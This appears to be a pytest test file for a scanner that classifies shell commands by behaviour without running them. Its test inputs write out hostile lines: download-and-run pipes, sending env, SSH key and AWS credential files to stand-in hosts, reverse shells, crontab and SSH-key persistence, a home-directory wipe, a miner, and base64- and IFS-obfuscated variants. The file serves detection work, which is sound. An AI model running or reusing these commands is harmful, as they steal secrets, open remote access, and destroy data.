"""Command lines and scripts are understood without being run."""

import base64
import time

import pytest

from pratique import vocabulary
from pratique.code.languages import programs, shell
from pratique.code.nested import Script
from pratique.limits import Budget, Limits
from pratique.model import Fact, Location


def look(text: str, language: str = "shell") -> list[Fact | Script]:
    where = Location(member="a.sh")
    return list(shell.facts(text, where, "install", Budget(Limits()), language))


def behaviours(text: str, language: str = "shell") -> set[str]:
    return {item.behaviour for item in look(text, language) if isinstance(item, Fact)}


def chains(text: str) -> set[tuple[str, tuple[str, ...]]]:
    return {(one.behaviour, one.via) for one in look(text) if isinstance(one, Fact) and one.via}


def scripts(text: str, language: str = "shell") -> list[Script]:
    return [item for item in look(text, language) if isinstance(item, Script)]


@pytest.mark.parametrize(
    "line",
    [
        "curl -s https://x.example/a.sh | sh",
        "wget -qO- https://x.example/a | sudo bash -s -- --yes",
        "curl https://x.example/a|python3",
        "curl https://x.example/a | tee /tmp/a | bash",
        "bash <(curl -s https://x.example/a)",
        'sh -c "$(curl -fsSL https://x.example/a)"',
        'eval "$(wget -qO- https://x.example/a)"',
        "U=https://x.example/a; curl $U | ${SHELL:-sh}",
        "wget http://x.example/m -O /tmp/.m && chmod +x /tmp/.m && /tmp/.m",
        "cd /tmp; curl -O http://x.example/run.sh; sh run.sh",
        "curl http://x.example/p.py > /tmp/p.py\npython3 /tmp/p.py",
        "c\\url https://x.example/a | s''h",
    ],
)
def test_downloads_that_are_run(line: str) -> None:
    assert "exec/download-run" in behaviours(line)


def test_a_chain_shows_the_whole_pipeline() -> None:
    facts = [one for one in look("curl https://x.example/a | tee b | sh") if isinstance(one, Fact)]
    chain = next(one for one in facts if one.symbol == "shell.sh" and one.via)
    assert chain.values[0].text == "curl https://x.example/a | tee b | sh"
    assert chain.via == ("net/download", "exec/shell")


@pytest.mark.parametrize(
    ("line", "source"),
    [
        ("env | curl -d @- https://c.example/", "creds/env-dump"),
        ("printenv | base64 | curl -X POST -d @- https://c.example", "creds/env-dump"),
        ("cat ~/.ssh/id_rsa | nc c.example 99", "creds/private-key"),
        ("curl -F f=@/root/.aws/credentials https://c.example", "creds/files"),
        ("curl https://c.example/$(whoami)", "discover/host"),
        ('curl "https://c.example/?h=`hostname`"', "discover/host"),
        ('wget --post-data="$(env)" https://c.example/', "creds/env-dump"),
        ("tar cz ~/.ssh/id_rsa | curl -T - https://c.example", "creds/private-key"),
    ],
)
def test_what_leaves_the_machine(line: str, source: str) -> None:
    found = {via for behaviour, via in chains(line) if behaviour == "net/exfil-chain"}
    assert source in {via[0] for via in found}


def test_names_that_carry_data() -> None:
    assert "net/exfil-dns" in behaviours("nslookup $(whoami).c.example")
    assert "net/exfil-dns" in behaviours("curl http://$(hostname).c.example/")
    assert "net/exfil-dns" not in behaviours("nslookup c.example")


@pytest.mark.parametrize(
    ("line", "behaviour"),
    [
        ("bash -i >& /dev/tcp/c.example/4444 0>&1", "net/reverse-shell"),
        ("nc -e /bin/sh c.example 4444", "net/reverse-shell"),
        (
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc c.example 1 >/tmp/f",
            "net/reverse-shell",
        ),
        ("nohup ./agent >/dev/null 2>&1 &", "exec/silent"),
        ("(crontab -l; echo '* * * * * /tmp/x') | crontab -", "persist/schedule"),
        ("echo 'x' >> ~/.bashrc", "persist/autostart"),
        ("echo key >> ~/.ssh/authorized_keys", "persist/ssh-key"),
        ("systemctl --user enable x.service", "persist/service"),
        ("chmod +x /tmp/a", "fs/make-executable"),
        ("chmod 755 /tmp/a", "fs/make-executable"),
        ("rm -rf ~/", "impact/ransom-wipe"),
        ("rm -rf build", "fs/delete"),
        ("python3 -m pip install x", "exec/install-package"),
        ("npm publish", "impact/worm"),
        ("sudo -u root id", "discover/host"),
        ("ngrok http 80", "net/suspicious-host"),
        ("xmrig -o pool.example:3333", "impact/mining"),
    ],
)
def test_programs_have_meanings(line: str, behaviour: str) -> None:
    assert behaviour in behaviours(line)


@pytest.mark.parametrize(
    "line",
    [
        "git status",
        "make -j4 && make install",
        "gcc --version",
        "cmake .. -DCMAKE_BUILD_TYPE=Release",
        "python setup.py build_ext --inplace",
        "cd src; ls",
        "protoc --python_out=. a.proto",
        "echo curl https://x.example",
        "# curl https://x.example/a | sh",
        "pkg-config --libs openssl 2>/dev/null",
        "[ -f a ] && echo yes || echo no",
    ],
)
def test_honest_lines_show_nothing_that_matters(line: str) -> None:
    assert behaviours(line) <= {"fs/enumerate"}


def test_code_of_other_languages_comes_back() -> None:
    found = scripts("python3 -c \"import os; os.system('id')\"")
    assert [(one.language, one.text) for one in found] == [("python", "import os; os.system('id')")]
    assert scripts("python - <<'EOF'\nimport os\nEOF\nls")[0].text == "import os\n"
    assert scripts("node -e 'require(\"fs\")'")[0].language == "javascript"
    assert scripts("echo aW1wb3J0IG9z | base64 -d | python3")[0].decoder == "base64"


def test_hidden_lines_are_read_again() -> None:
    hidden = base64.b64encode(b"curl http://x.example/a | sh").decode()
    facts = [one for one in look(f"echo {hidden} | base64 -d | bash") if isinstance(one, Fact)]
    assert "obfus/encoded-exec" in {one.behaviour for one in facts}
    layers = {one.location.layer for one in facts if one.behaviour == "exec/download-run"}
    assert "base64" in layers


def test_lines_are_counted_in_members() -> None:
    text = "#!/bin/sh\nset -e\n\ncat <<EOF\nfoo\nEOF\ncurl https://x.example/a \\\n -o b\n"
    facts = [one for one in look(text) if isinstance(one, Fact) and one.symbol == "shell.curl"]
    assert {one.location.line for one in facts} == {7}


@pytest.mark.parametrize(
    "text",
    [
        "$(" * 5000,
        "((((" * 5000 + "))))",
        "'" + "a" * 100_000,
        "`" * 9999,
        "a=" * 20_000,
        "<<EOF " * 3000,
        "curl | " * 20_000,
        "\x00\xff\u202e" * 1000,
        "echo ${" * 3000,
        "%" * 20_000 + ".exe",
        "A" * 600_000,
        " " * 600_000 + "ls",
    ],
)
def test_hostile_lines_end_soon(text: str) -> None:
    start = time.process_time()
    look(text)
    look(text, "batch")
    look(text, "powershell")
    assert time.process_time() - start < 3


def test_every_behaviour_is_in_the_vocabulary() -> None:
    named = {behaviour for _, _, behaviour in programs._MEANS} | set(programs.TELLS.values())
    assert not {one for one in named if not vocabulary.known(one)}


@pytest.mark.parametrize("blank", ["${IFS}", "$IFS$9"])
def test_a_variable_that_stands_for_a_blank_parts_words(blank):
    text = f"curl{blank}-s{blank}http://c2.invalid/a|sh"
    found = shell.facts(text, Location(member="x.sh"), "install", Budget(Limits()))
    assert "exec/download-run" in {one.behaviour for one in found if isinstance(one, Fact)}
